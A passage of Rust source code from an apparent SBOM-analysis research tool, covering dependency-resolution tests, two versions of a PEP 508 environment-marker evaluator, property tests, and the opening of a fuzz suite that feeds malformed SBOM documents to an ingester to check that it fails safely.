        uni.insert(PackageEntry {
            name: "leaf".into(),
            versions: vec![
                VersionEntry {
                    version: Version::new(1, 0, 0),
                    deps: vec![],
                    yanked: false,
                },
                VersionEntry {
                    version: Version::new(2, 0, 0),
                    deps: vec![],
                    yanked: false,
                },
            ],
        });
        uni.insert(PackageEntry {
            name: "mid".into(),
            versions: vec![VersionEntry {
                version: Version::new(1, 5, 0),
                deps: vec![RegistryDep::new("leaf", req(">=1.0, <2.0"))],
                yanked: false,
            }],
        });
        uni.insert(PackageEntry {
            name: "top".into(),
            versions: vec![VersionEntry {
                version: Version::new(3, 0, 0),
                deps: vec![
                    RegistryDep::new("mid", req(">=1.0")),
                    RegistryDep::new("leaf", req(">=2.0")),
                ],
                yanked: false,
            }],
        });
        uni
    }

    #[test]
    fn resolves_transitive_closure() {
        let uni = universe();
        let roots = vec![RootDep::new("top", None)];
        let r = resolve(&uni, &roots, DedupPolicy::HighestWins, true);
        assert_eq!(r.failures.len(), 0);
        let names: Vec<&str> = r.packages.iter().map(|p| p.name.as_str()).collect();
        assert_eq!(names, vec!["top", "mid", "leaf"]);
        assert!(!r.packages[0].transitive);
        assert!(r.packages[2].transitive);
        // HighestWins: leaf required >=2.0 by top and <2.0 by mid; the
        // higher resolution (2.0.0) wins.
        assert_eq!(r.packages[2].version, Version::new(2, 0, 0));
    }

    #[test]
    fn first_wins_keeps_first() {
        let uni = universe();
        let roots = vec![
            RootDep::new("leaf", Some(req("==1.0.0"))),
            RootDep::new("leaf", Some(req("==2.0.0"))),
        ];
        let r = resolve(&uni, &roots, DedupPolicy::FirstWins, true);
        assert_eq!(r.packages.len(), 1);
        assert_eq!(r.packages[0].version, Version::new(1, 0, 0));
    }

    #[test]
    fn per_major_keeps_both() {
        let uni = universe();
        let roots = vec![
            RootDep::new("leaf", Some(req("==1.0.0"))),
            RootDep::new("leaf", Some(req("==2.0.0"))),
        ];
        let r = resolve(&uni, &roots, DedupPolicy::PerMajor, true);
        assert_eq!(r.packages.len(), 2);
    }

    #[test]
    fn unresolvable_roots_are_failures() {
        let uni = universe();
        let roots = vec![
            RootDep::new("ghost", None),
            RootDep::new("leaf", Some(req(">=9.0"))),
        ];
        let r = resolve(&uni, &roots, DedupPolicy::HighestWins, true);
        assert_eq!(r.failures, vec!["ghost".to_string(), "leaf".to_string()]);
        assert!(r.packages.is_empty());
    }

    #[test]
    fn scope_propagates_to_transitives() {
        let uni = universe();
        let mut root = RootDep::new("mid", None);
        root.scope = DepScope::Dev;
        let r = resolve(&uni, &[root], DedupPolicy::HighestWins, true);
        assert!(r.packages.iter().all(|p| p.scope == DepScope::Dev));
    }

    #[test]
    fn transitive_count() {
        let uni = universe();
        let r = resolve(
            &uni,
            &[RootDep::new("top", None)],
            DedupPolicy::HighestWins,
            true,
        );
        assert_eq!(r.transitive_count(), 2);
    }
}

//! PEP 508 environment-marker evaluation.
//!
//! §V-H: sbom-tool "ignores ... OS and Python requirements", inflating its
//! reported set with packages that would never be installed on the
//! evaluation platform. The ground-truth dry run evaluates markers against
//! this fixed platform, exactly as pip would.

use sbomdiff_types::Version;

/// The evaluation platform (paper §V-H: Python 3.11, Linux).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Platform {
    /// `sys_platform` (e.g. `linux`, `win32`, `darwin`).
    pub sys_platform: String,
    /// `platform_system` (e.g. `Linux`, `Windows`, `Darwin`).
    pub platform_system: String,
    /// `os_name` (`posix` / `nt`).
    pub os_name: String,
    /// `python_version` (major.minor).
    pub python_version: String,
    /// `implementation_name` (`cpython`).
    pub implementation_name: String,
}

impl Default for Platform {
    fn default() -> Self {
        Platform {
            sys_platform: "linux".into(),
            platform_system: "Linux".into(),
            os_name: "posix".into(),
            python_version: "3.11".into(),
            implementation_name: "cpython".into(),
        }
    }
}

impl Platform {
    fn lookup(&self, key: &str) -> Option<&str> {
        Some(match key {
            "sys_platform" => &self.sys_platform,
            "platform_system" => &self.platform_system,
            "os_name" => &self.os_name,
            "python_version" | "python_full_version" => &self.python_version,
            "implementation_name" | "platform_python_implementation" => &self.implementation_name,
            _ => return None,
        })
    }
}

/// Evaluates a marker expression; `true` means the dependency applies.
///
/// Supports `and` / `or` conjunctions of `variable op 'literal'`
/// comparisons, with parenthesized groups at arbitrary nesting depth.
/// Unknown variables or unparseable clauses evaluate to `true` (pip is
/// conservative about including).
pub fn marker_allows(marker: &str, platform: &Platform) -> bool {
    eval_or(marker, platform)
}

// Lowest precedence: or.
fn eval_or(expr: &str, platform: &Platform) -> bool {
    split_top_level(expr, "or")
        .into_iter()
        .any(|clause| eval_and(clause, platform))
}

fn eval_and(expr: &str, platform: &Platform) -> bool {
    split_top_level(expr, "and")
        .into_iter()
        .all(|clause| eval_atom(clause, platform))
}

fn eval_atom(expr: &str, platform: &Platform) -> bool {
    let expr = expr.trim();
    if expr.is_empty() {
        return true;
    }
    // A fully parenthesized group recurses with its outer pair removed.
    // Only a *matched* outer pair is stripped — `(a) and (b)` is not one
    // group, and quoted parens inside literals are left alone.
    if let Some(inner) = strip_outer_parens(expr) {
        return eval_or(inner, platform);
    }
    eval_comparison(expr, platform)
}

/// Removes one outer pair of parentheses iff the leading `(` matches the
/// trailing `)`. Returns `None` for non-groups and unbalanced input.
fn strip_outer_parens(expr: &str) -> Option<&str> {
    let bytes = expr.as_bytes();
    if bytes.first() != Some(&b'(') || bytes.last() != Some(&b')') {
        return None;
    }
    let mut depth = 0usize;
    let mut quote: Option<u8> = None;
    for (i, &b) in bytes.iter().enumerate() {
        match quote {
            Some(q) => {
                if b == q {
                    quote = None;
                }
            }
            None => match b {
                b'\'' | b'"' => quote = Some(b),
                b'(' => depth += 1,
                b')' => {
                    depth = depth.checked_sub(1)?;
                    if depth == 0 && i != bytes.len() - 1 {
                        return None; // outer pair closes before the end
                    }
                }
                _ => {}
            },
        }
    }
    (depth == 0).then(|| &expr[1..expr.len() - 1])
}

/// Splits on the boolean keyword `word` at paren depth zero, outside
/// quoted literals. The keyword must be whitespace-delimited so variable
/// names containing "or"/"and" never split.
fn split_top_level<'a>(expr: &'a str, word: &str) -> Vec<&'a str> {
    let bytes = expr.as_bytes();
    let w = word.as_bytes();
    let mut parts = Vec::new();
    let mut depth = 0i32;
    let mut quote: Option<u8> = None;
    let mut start = 0usize;
    let mut i = 0usize;
    while i < bytes.len() {
        let b = bytes[i];
        match quote {
            Some(q) => {
                if b == q {
                    quote = None;
                }
            }
            None => match b {
                b'\'' | b'"' => quote = Some(b),
                b'(' => depth += 1,
                b')' => depth -= 1,
                _ => {
                    if depth == 0
                        && i > 0
                        && bytes[i - 1].is_ascii_whitespace()
                        && bytes[i..].starts_with(w)
                        && bytes.get(i + w.len()).is_some_and(u8::is_ascii_whitespace)
                    {
                        parts.push(&expr[start..i]);
                        i += w.len();
                        start = i;
                        continue;
                    }
                }
            },
        }
        i += 1;
    }
    parts.push(&expr[start..]);
    parts
}

fn eval_comparison(clause: &str, platform: &Platform) -> bool {
    let clause = clause.trim();
    if clause.is_empty() {
        return true;
    }
    let ops = ["==", "!=", "<=", ">=", "<", ">", " not in ", " in "];
    for op in ops {
        if let Some(idx) = clause.find(op) {
            let lhs = clause[..idx].trim();
            let rhs = clause[idx + op.len()..]
                .trim()
                .trim_matches(['\'', '"'])
                .to_string();
            let Some(actual) = platform.lookup(lhs) else {
                return true; // unknown variable — include
            };
            return compare(actual, op.trim(), &rhs);
        }
    }
    true
}

fn compare(actual: &str, op: &str, expected: &str) -> bool {
    // Version-like operands compare as versions; otherwise as strings.
    let as_versions = (Version::parse(actual), Version::parse(expected));
    match op {
        "==" => match as_versions {
            (Ok(a), Ok(b)) => a == b,
            _ => actual == expected,
        },
        "!=" => match as_versions {
            (Ok(a), Ok(b)) => a != b,
            _ => actual != expected,
        },
        "<" | "<=" | ">" | ">=" => {
            let (Ok(a), Ok(b)) = as_versions else {
                return compare_fallback(actual, op, expected);
            };
            match op {
                "<" => a < b,
                "<=" => a <= b,
                ">" => a > b,
                _ => a >= b,
            }
        }
        // PEP 508 `in` on a literal list ("sys_platform in 'linux darwin'")
        // means membership. Plain substring would let `win` match `darwin`.
        "in" => expected_tokens(expected).any(|tok| tok == actual),
        "not in" => !expected_tokens(expected).any(|tok| tok == actual),
        _ => true,
    }
}

/// Ordered comparison when at least one operand is not a proper version:
/// compare embedded numeric runs as tuples first (so `linux-5.15` sorts
/// after `linux-5.9`), falling back to lexicographic order only for
/// operands with no digits at all.
fn compare_fallback(actual: &str, op: &str, expected: &str) -> bool {
    if let (Some(a), Some(b)) = (numeric_tuple(actual), numeric_tuple(expected)) {
        return match op {
            "<" => a < b,
            "<=" => a <= b,
            ">" => a > b,
            _ => a >= b,
        };
    }
    match op {
        "<" => actual < expected,
        "<=" => actual <= expected,
        ">" => actual > expected,
        _ => actual >= expected,
    }
}

/// The maximal digit runs of a string, in order (`"linux-5.10"` → `[5, 10]`).
fn numeric_tuple(s: &str) -> Option<Vec<u64>> {
    let mut runs = Vec::new();
    let mut current: Option<u64> = None;
    for c in s.chars() {
        match c.to_digit(10) {
            Some(d) => {
                let n = current.unwrap_or(0);
                current = Some(n.saturating_mul(10).saturating_add(u64::from(d)));
            }
            None => {
                if let Some(n) = current.take() {
                    runs.push(n);
                }
            }
        }
    }
    if let Some(n) = current {
        runs.push(n);
    }
    (!runs.is_empty()).then_some(runs)
}

fn expected_tokens(expected: &str) -> impl Iterator<Item = &str> {
    expected
        .split(|c: char| c.is_whitespace() || c == ',')
        .filter(|t| !t.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn platform_markers() {
        let p = Platform::default();
        assert!(!marker_allows("sys_platform == 'win32'", &p));
        assert!(marker_allows("sys_platform == 'linux'", &p));
        assert!(marker_allows("sys_platform != 'win32'", &p));
        assert!(!marker_allows("platform_system == 'Windows'", &p));
        assert!(!marker_allows("os_name == 'nt'", &p));
    }

    #[test]
    fn python_version_markers() {
        let p = Platform::default();
        assert!(marker_allows("python_version >= '3.8'", &p));
        assert!(!marker_allows("python_version < '3.8'", &p));
        assert!(marker_allows("python_version == '3.11'", &p));
        assert!(!marker_allows("python_version < '3'", &p));
        // Version comparison, not string comparison: 3.9 < 3.11 numerically.
        assert!(marker_allows("python_version >= '3.9'", &p));
    }

    #[test]
    fn conjunctions() {
        let p = Platform::default();
        assert!(marker_allows(
            "python_version >= '3.8' and sys_platform == 'linux'",
            &p
        ));
        assert!(!marker_allows(
            "python_version >= '3.8' and sys_platform == 'win32'",
            &p
        ));
        assert!(marker_allows(
            "sys_platform == 'win32' or sys_platform == 'linux'",
            &p
        ));
    }

    #[test]
    fn parenthesized_groups() {
        let p = Platform::default();
        assert!(marker_allows(
            "(sys_platform == 'win32' or sys_platform == 'linux') and python_version >= '3.8'",
            &p
        ));
        assert!(!marker_allows(
            "(sys_platform == 'win32' or sys_platform == 'darwin') and python_version >= '3.8'",
            &p
        ));
        // Regression: the old evaluator stripped parens *after* splitting on
        // " or ", so the group's second disjunct escaped the failing `and`
        // clause and this wrongly evaluated true.
        assert!(!marker_allows(
            "python_version >= '3.99' and (sys_platform == 'win32' or sys_platform == 'linux')",
            &p
        ));
        // Nested groups.
        assert!(marker_allows(
            "((os_name == 'posix' or os_name == 'nt') and python_version >= '3.8')",
            &p
        ));
        assert!(!marker_allows(
            "((os_name == 'nt' and python_version >= '3.8') or sys_platform == 'win32')",
            &p
        ));
        // Parens inside quoted literals are not structure.
        assert!(!marker_allows("platform_system == '(Windows)'", &p));
    }

    #[test]
    fn unknown_variables_included() {
        let p = Platform::default();
        assert!(marker_allows("extra == 'test'", &p));
        assert!(marker_allows("some_unknown_var == 'x'", &p));
        assert!(marker_allows("", &p));
        assert!(marker_allows("garbage without operator", &p));
        assert!(marker_allows("(unbalanced == 'x'", &p));
    }

    #[test]
    fn in_operator() {
        let p = Platform::default();
        assert!(marker_allows("sys_platform in 'linux darwin'", &p));
        assert!(!marker_allows("sys_platform not in 'linux darwin'", &p));
        assert!(marker_allows("sys_platform in 'win32,linux'", &p));
    }

    #[test]
    fn in_operator_is_token_membership() {
        // Regression: bare substring matching made `win` a member of
        // `'darwin'` and `linux` a member of `'linux-gnu'`.
        let p = Platform {
            sys_platform: "win".into(),
            ..Default::default()
        };
        assert!(!marker_allows("sys_platform in 'darwin'", &p));
        assert!(marker_allows("sys_platform not in 'darwin'", &p));
        assert!(marker_allows("sys_platform in 'win darwin'", &p));
        let p = Platform::default();
        assert!(!marker_allows("sys_platform in 'linux-gnu'", &p));
    }

    #[test]
    fn ordered_fallback_compares_numeric_runs() {
        // Neither operand parses as a version, but both embed numbers;
        // lexicographic order alone would invert these.
        assert!(compare("linux-5.15", ">=", "linux-5.9"));
        assert!(!compare("linux-5.9", ">=", "linux-5.15"));
        assert!(compare("build-10", ">", "build-9"));
        // No digits on either side: plain string order still applies.
        assert!(compare("alpha", "<", "beta"));
    }
}

//! PEP 508 environment-marker evaluation.
//!
//! §V-H: sbom-tool "ignores ... OS and Python requirements", inflating its
//! reported set with packages that would never be installed on the
//! evaluation platform. The ground-truth dry run evaluates markers against
//! this fixed platform, exactly as pip would.

use sbomdiff_types::Version;

/// The evaluation platform (paper §V-H: Python 3.11, Linux).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Platform {
    /// `sys_platform` (e.g. `linux`, `win32`, `darwin`).
    pub sys_platform: String,
    /// `platform_system` (e.g. `Linux`, `Windows`, `Darwin`).
    pub platform_system: String,
    /// `os_name` (`posix` / `nt`).
    pub os_name: String,
    /// `python_version` (major.minor).
    pub python_version: String,
    /// `implementation_name` (`cpython`).
    pub implementation_name: String,
}

impl Default for Platform {
    fn default() -> Self {
        Platform {
            sys_platform: "linux".into(),
            platform_system: "Linux".into(),
            os_name: "posix".into(),
            python_version: "3.11".into(),
            implementation_name: "cpython".into(),
        }
    }
}

impl Platform {
    fn lookup(&self, key: &str) -> Option<&str> {
        Some(match key {
            "sys_platform" => &self.sys_platform,
            "platform_system" => &self.platform_system,
            "os_name" => &self.os_name,
            "python_version" | "python_full_version" => &self.python_version,
            "implementation_name" | "platform_python_implementation" => &self.implementation_name,
            _ => return None,
        })
    }
}

/// Evaluates a marker expression; `true` means the dependency applies.
///
/// Supports `and` / `or` conjunctions of `variable op 'literal'`
/// comparisons. Unknown variables or unparseable clauses evaluate to `true`
/// (pip is conservative about including).
pub fn marker_allows(marker: &str, platform: &Platform) -> bool {
    // Lowest precedence: or.
    marker
        .split(" or ")
        .any(|clause| clause.split(" and ").all(|c| eval_comparison(c, platform)))
}

fn eval_comparison(clause: &str, platform: &Platform) -> bool {
    let clause = clause
        .trim()
        .trim_start_matches('(')
        .trim_end_matches(')')
        .trim();
    if clause.is_empty() {
        return true;
    }
    let ops = ["==", "!=", "<=", ">=", "<", ">", " not in ", " in "];
    for op in ops {
        if let Some(idx) = clause.find(op) {
            let lhs = clause[..idx].trim();
            let rhs = clause[idx + op.len()..]
                .trim()
                .trim_matches(['\'', '"'])
                .to_string();
            let Some(actual) = platform.lookup(lhs) else {
                return true; // unknown variable — include
            };
            return compare(actual, op.trim(), &rhs);
        }
    }
    true
}

fn compare(actual: &str, op: &str, expected: &str) -> bool {
    // Version-like operands compare as versions; otherwise as strings.
    let as_versions = (Version::parse(actual), Version::parse(expected));
    match op {
        "==" => match as_versions {
            (Ok(a), Ok(b)) => a == b,
            _ => actual == expected,
        },
        "!=" => match as_versions {
            (Ok(a), Ok(b)) => a != b,
            _ => actual != expected,
        },
        "<" | "<=" | ">" | ">=" => {
            let (Ok(a), Ok(b)) = as_versions else {
                return match op {
                    "<" => actual < expected,
                    "<=" => actual <= expected,
                    ">" => actual > expected,
                    _ => actual >= expected,
                };
            };
            match op {
                "<" => a < b,
                "<=" => a <= b,
                ">" => a > b,
                _ => a >= b,
            }
        }
        "in" => expected.contains(actual),
        "not in" => !expected.contains(actual),
        _ => true,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn platform_markers() {
        let p = Platform::default();
        assert!(!marker_allows("sys_platform == 'win32'", &p));
        assert!(marker_allows("sys_platform == 'linux'", &p));
        assert!(marker_allows("sys_platform != 'win32'", &p));
        assert!(!marker_allows("platform_system == 'Windows'", &p));
        assert!(!marker_allows("os_name == 'nt'", &p));
    }

    #[test]
    fn python_version_markers() {
        let p = Platform::default();
        assert!(marker_allows("python_version >= '3.8'", &p));
        assert!(!marker_allows("python_version < '3.8'", &p));
        assert!(marker_allows("python_version == '3.11'", &p));
        assert!(!marker_allows("python_version < '3'", &p));
        // Version comparison, not string comparison: 3.9 < 3.11 numerically.
        assert!(marker_allows("python_version >= '3.9'", &p));
    }

    #[test]
    fn conjunctions() {
        let p = Platform::default();
        assert!(marker_allows(
            "python_version >= '3.8' and sys_platform == 'linux'",
            &p
        ));
        assert!(!marker_allows(
            "python_version >= '3.8' and sys_platform == 'win32'",
            &p
        ));
        assert!(marker_allows(
            "sys_platform == 'win32' or sys_platform == 'linux'",
            &p
        ));
    }

    #[test]
    fn unknown_variables_included() {
        let p = Platform::default();
        assert!(marker_allows("extra == 'test'", &p));
        assert!(marker_allows("some_unknown_var == 'x'", &p));
        assert!(marker_allows("", &p));
        assert!(marker_allows("garbage without operator", &p));
    }

    #[test]
    fn in_operator() {
        let p = Platform::default();
        assert!(marker_allows("sys_platform in 'linux darwin'", &p));
        assert!(!marker_allows("sys_platform not in 'linux darwin'", &p));
    }
}

//! Dependency resolution over the synthetic registry.
//!
//! Three layers:
//!
//! * [`platform`] — evaluation of PEP 508 environment markers against the
//!   fixed evaluation platform (Linux, CPython 3.11 — matching the paper's
//!   §V-H setup of Python 3.11 / pip 23.1.2);
//! * [`engine`] — a generic breadth-first resolver with per-ecosystem
//!   deduplication policies, used by the corpus generator to synthesize
//!   lockfiles that are *consistent* with raw metadata;
//! * [`ground_truth`] — the `pip install --dry-run` simulator that produces
//!   the ground-truth install set for Table III.

#![cfg_attr(not(test), deny(clippy::unwrap_used, clippy::expect_used))]

pub mod engine;
pub mod ground_truth;
pub mod platform;

pub use engine::{DedupPolicy, Resolution, ResolvedEntry, RootDep};
pub use ground_truth::{dry_run, DryRunReport};
pub use platform::{marker_allows, Platform};

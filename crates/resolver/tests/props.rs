//! Property tests for resolution invariants.

use proptest::prelude::*;

use sbomdiff_registry::{PackageUniverse, UniverseConfig};
use sbomdiff_resolver::engine::{resolve, DedupPolicy, RootDep};
use sbomdiff_resolver::{dry_run, Platform};
use sbomdiff_types::Ecosystem;

fn universe(seed: u64) -> PackageUniverse {
    PackageUniverse::generate(&UniverseConfig {
        package_count: 80,
        ..UniverseConfig::for_ecosystem(Ecosystem::Python, seed)
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// Resolution is deterministic and every resolved version exists in the
    /// registry; roots are never marked transitive.
    #[test]
    fn resolution_invariants(seed in 0u64..50, n_roots in 1usize..8) {
        let uni = universe(seed);
        let names: Vec<String> = uni.package_names().map(str::to_string).collect();
        let roots: Vec<RootDep> = names
            .iter()
            .rev()
            .take(n_roots)
            .map(|n| RootDep::new(n.clone(), None))
            .collect();
        for policy in [DedupPolicy::HighestWins, DedupPolicy::FirstWins, DedupPolicy::PerMajor] {
            let a = resolve(&uni, &roots, policy, true);
            let b = resolve(&uni, &roots, policy, true);
            prop_assert_eq!(a.packages.len(), b.packages.len());
            for (pa, pb) in a.packages.iter().zip(&b.packages) {
                prop_assert_eq!(pa, pb);
            }
            for p in &a.packages {
                let published = uni.versions(&p.name);
                prop_assert!(
                    published.iter().any(|v| **v == p.version),
                    "{}@{} not published",
                    p.name,
                    p.version
                );
                if !p.transitive {
                    prop_assert!(roots.iter().any(|r| r.name == p.name));
                }
            }
            // Single-version policies never report a package twice.
            if policy != DedupPolicy::PerMajor {
                let mut names: Vec<&str> =
                    a.packages.iter().map(|p| p.name.as_str()).collect();
                names.sort_unstable();
                let before = names.len();
                names.dedup();
                prop_assert_eq!(before, names.len());
            }
        }
    }

    /// The direct roots always appear in the dry-run install set when they
    /// resolve, and marker-excluded lines never do.
    #[test]
    fn dry_run_invariants(seed in 0u64..50) {
        let uni = universe(seed);
        let names: Vec<String> = uni.package_names().map(str::to_string).collect();
        let included = &names[names.len() - 1];
        let excluded = &names[names.len() - 2];
        let content = format!(
            "{included}\n{excluded}; sys_platform == 'win32'\n"
        );
        let files: std::collections::BTreeMap<String, String> =
            [("requirements.txt".to_string(), content)].into();
        let report = dry_run(&uni, &files, "requirements.txt", &Platform::default());
        let installed: Vec<&str> =
            report.installed.iter().map(|p| p.name.as_str()).collect();
        let canon_inc = sbomdiff_types::name::normalize(Ecosystem::Python, included);
        let canon_exc = sbomdiff_types::name::normalize(Ecosystem::Python, excluded);
        prop_assert!(installed.contains(&canon_inc.as_str()));
        prop_assert!(!installed.contains(&canon_exc.as_str()));
        // Direct roots are flagged non-transitive.
        let direct = report
            .installed
            .iter()
            .find(|p| p.name == canon_inc)
            .unwrap();
        prop_assert!(!direct.transitive);
        // Transitive share stays within [0, 1].
        let share = report.transitive_share();
        prop_assert!((0.0..=1.0).contains(&share));
    }

    /// Requirement satisfaction: every transitively resolved package
    /// version satisfies at least the registry's edge requirement from one
    /// of its dependents (spot-check via re-resolution stability).
    #[test]
    fn resolution_is_stable_under_reresolution(seed in 0u64..30) {
        let uni = universe(seed);
        let names: Vec<String> = uni.package_names().map(str::to_string).collect();
        let roots: Vec<RootDep> = names
            .iter()
            .rev()
            .take(4)
            .map(|n| RootDep::new(n.clone(), None))
            .collect();
        let first = resolve(&uni, &roots, DedupPolicy::HighestWins, true);
        // Re-resolving with the resolved pins as roots reproduces the set.
        let pinned_roots: Vec<RootDep> = first
            .packages
            .iter()
            .map(|p| RootDep::new(
                p.name.clone(),
                Some(sbomdiff_types::VersionReq::exact(p.version.clone())),
            ))
            .collect();
        let second = resolve(&uni, &pinned_roots, DedupPolicy::HighestWins, true);
        prop_assert!(second.packages.len() >= first.packages.len());
        for p in &first.packages {
            prop_assert!(
                second.packages.iter().any(|q| q.name == p.name),
                "{} lost on re-resolution",
                p.name
            );
        }
    }
}

//! Corruption/fuzz suite for the streaming SBOM ingester.
//!
//! The ingester is the service's front door for arbitrary externally
//! generated documents, so it must never panic, must classify every
//! failure into a typed diagnostic, and must hold its peak buffering
//! under a hard cap no matter what bytes arrive. This suite mangles
//! valid documents — exhaustive truncation, deterministic bit flips,
//! invalid UTF-8 splices, deep-nesting bombs, pathological string
//! lengths — and asserts all three properties on every mutant, plus
//! streaming self-consistency (tiny chunks vs one-shot ingestion agree
//! byte-for-byte) whenever a mutant still parses.
//!
//! Deterministic by construction: fixed seeds, fixed iteration counts.
//! `INGEST_FUZZ_BUDGET` scales the mutation count (CI smoke uses a
//! reduced budget; the default exercises the full matrix).

use std::panic::{catch_unwind, AssertUnwindSafe};

use rand::{rngs::StdRng, Rng, SeedableRng};
use sbomdiff_sbomfmt::ingest::{ingest_bytes, ingest_reader, IngestOptions, IngestOutcome};
use sbomdiff_sbomfmt::SbomFormat;
use sbomdiff_textformats::stream::{DEFAULT_CHUNK, MAX_TOKEN};
use sbomdiff_types::{Component, DepScope, DiagClass, Ecosystem, Sbom, Severity};

/// Hard ceiling on reader buffering: one chunk in flight plus one
/// maximum-size token of scratch, with a small allowance for the
/// tokenizer's bookkeeping.
const PEAK_CAP: usize = DEFAULT_CHUNK + MAX_TOKEN + 4096;

/// Mutations per (document, corruption family). Override with
/// `INGEST_FUZZ_BUDGET` for CI smoke runs.
fn budget() -> usize {
    std::env::var("INGEST_FUZZ_BUDGET")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(200)
}

fn valid_documents() -> Vec<String> {
    let mut sboms = Vec::new();
    sboms.push(Sbom::new("fuzz-tool", "0.0.1").with_subject("empty-repo"));
    let mut rich = Sbom::new("fuzz-tool", "9.9").with_subject("rich-repo");
    rich.push(
        Component::new(Ecosystem::Python, "requests", Some("2.31.0".into()))
            .with_found_in("requirements.txt")
            .with_scope(DepScope::Runtime),
    );
    rich.push(
        Component::new(Ecosystem::JavaScript, "left-pad", Some("1.3.0".into()))
            .with_scope(DepScope::Dev),
    );
    rich.push(Component::new(Ecosystem::Go, "github.com/pkg/errors", None));
    sboms.push(rich);
    let mut awkward =
        Sbom::new("tool \"quoted\" \\ name", "1.0\n2.0").with_subject("weird/sub\tject");
    awkward.push(Component::new(
        Ecosystem::Java,
        "grüß-gott:パッケージ",
        Some("1.0.0-beta+exp.sha.5114f85".into()),
    ));
    sboms.push(awkward);
    sboms
        .iter()
        .flat_map(|s| {
            [
                SbomFormat::CycloneDx.serialize(s),
                SbomFormat::Spdx.serialize(s),
                SbomFormat::SpdxTagValue.serialize(s),
            ]
        })
        .collect()
}

/// Ingests a mutant under a panic boundary and asserts the universal
/// invariants: no panic, classified fatal (if any), bounded buffering.
fn probe(bytes: &[u8]) -> IngestOutcome {
    let outcome = catch_unwind(AssertUnwindSafe(|| ingest_bytes(bytes)))
        .unwrap_or_else(|_| panic!("ingest panicked on {} mutated bytes", bytes.len()));
    assert!(
        outcome.stats.peak_buffered <= PEAK_CAP,
        "peak buffering {} over cap {PEAK_CAP}",
        outcome.stats.peak_buffered
    );
    if let Some(fatal) = &outcome.fatal {
        assert_eq!(fatal.severity, Severity::Error);
        assert!(
            matches!(
                fatal.class,
                DiagClass::MalformedFile
                    | DiagClass::TruncatedInput
                    | DiagClass::EncodingError
                    | DiagClass::UnsupportedSyntax
                    | DiagClass::IoError
            ),
            "unclassified fatal: {fatal}"
        );
        assert!(!fatal.message.is_empty());
    }
    outcome
}

/// When a mutant still parses, tiny-chunk streaming must agree with the
/// one-shot path on every observable: components, metadata, diagnostics.
fn assert_stream_consistent(bytes: &[u8], oneshot: &IngestOutcome) {
    let opts = IngestOptions {
        chunk_size: 512,
        fault_key: String::new(),
    };
    let streamed = ingest_reader(bytes, opts, &mut |_| {});
    assert_eq!(streamed.format, oneshot.format);
    assert_eq!(streamed.fatal.is_some(), oneshot.fatal.is_some());
    let serialize = |s: &Sbom| SbomFormat::CycloneDx.serialize(s);
    assert_eq!(serialize(&streamed.sbom), serialize(&oneshot.sbom));
    assert_eq!(
        streamed.sbom.diagnostics().len(),
        oneshot.sbom.diagnostics().len()
    );
}

#[test]
fn truncation_at_every_offset_never_panics() {
    for doc in valid_documents() {
        let bytes = doc.as_bytes();
        // Exhaustive for small documents; stride keeps big ones bounded.
        let stride = (bytes.len() / budget().max(1)).max(1);
        for cut in (0..bytes.len()).step_by(stride) {
            let outcome = probe(&bytes[..cut]);
            if outcome.fatal.is_none() {
                assert_stream_consistent(&bytes[..cut], &outcome);
            }
        }
        // The empty prefix is its own class: a truncated nothing.
        let outcome = probe(b"");
        let fatal = outcome.fatal.expect("empty input is fatal");
        assert_eq!(fatal.class, DiagClass::TruncatedInput);
    }
}

#[test]
fn bit_flips_are_classified_not_panics() {
    let mut rng = StdRng::seed_from_u64(0xB17F11B5);
    for doc in valid_documents() {
        for _ in 0..budget() {
            let mut bytes = doc.clone().into_bytes();
            let pos = rng.gen_range(0..bytes.len());
            let bit = rng.gen_range(0..8u32);
            bytes[pos] ^= 1 << bit;
            let outcome = probe(&bytes);
            if outcome.fatal.is_none() {
                assert_stream_consistent(&bytes, &outcome);
            }
        }
    }
}

#[test]
fn invalid_utf8_yields_encoding_diagnostics() {
    let mut rng = StdRng::seed_from_u64(0x0FF_BEEF);
    let mut saw_encoding_error = false;
    for doc in valid_documents() {
        for _ in 0..budget() {
            let mut bytes = doc.clone().into_bytes();
            let pos = rng.gen_range(0..bytes.len());
            // Lone continuation bytes, overlong starts, and 0xFF are all
            // invalid in UTF-8.
            bytes[pos] = [0x80, 0xC0, 0xF8, 0xFFu8][rng.gen_range(0..4)];
            let outcome = probe(&bytes);
            if let Some(fatal) = &outcome.fatal {
                if fatal.class == DiagClass::EncodingError {
                    saw_encoding_error = true;
                }
            }
        }
    }
    assert!(
        saw_encoding_error,
        "no mutant was classified as an encoding error"
    );
}

#[test]
fn deep_nesting_bomb_is_rejected_with_bounded_memory() {
    // A components array opening thousands of nested arrays: the depth
    // cap must fire long before memory does.
    let mut doc = String::from("{\"bomFormat\":\"CycloneDX\",\"components\":");
    for _ in 0..10_000 {
        doc.push('[');
    }
    let outcome = probe(doc.as_bytes());
    let fatal = outcome.fatal.expect("nesting bomb must be fatal");
    assert_eq!(fatal.class, DiagClass::UnsupportedSyntax);

    // Same bomb inside an SPDX-flavored JSON document.
    let mut doc = String::from("{\"spdxVersion\":\"SPDX-2.3\",\"packages\":");
    for _ in 0..10_000 {
        doc.push('[');
    }
    let outcome = probe(doc.as_bytes());
    assert_eq!(
        outcome.fatal.expect("nesting bomb must be fatal").class,
        DiagClass::UnsupportedSyntax
    );
}

#[test]
fn pathological_string_lengths_hit_the_token_cap() {
    // One component name longer than the token cap: rejected, and peak
    // buffering stays within the cap-sized scratch allowance.
    let mut doc = String::from("{\"bomFormat\":\"CycloneDX\",\"components\":[{\"name\":\"");
    doc.reserve(MAX_TOKEN + 64);
    for _ in 0..(MAX_TOKEN + 16) {
        doc.push('x');
    }
    doc.push_str("\"}]}");
    let outcome = probe(doc.as_bytes());
    let fatal = outcome.fatal.expect("oversized token must be fatal");
    assert_eq!(fatal.class, DiagClass::UnsupportedSyntax);

    // An endless unterminated string must also terminate at the cap
    // rather than buffering the whole input.
    let mut doc = String::from("{\"bomFormat\":\"");
    for _ in 0..(2 * MAX_TOKEN) {
        doc.push('y');
    }
    let outcome = probe(doc.as_bytes());
    assert!(outcome.fatal.is_some());
}

#[test]
fn splice_and_delete_mutations_keep_all_invariants() {
    let mut rng = StdRng::seed_from_u64(0x5EED_5EED);
    for doc in valid_documents() {
        for _ in 0..budget() {
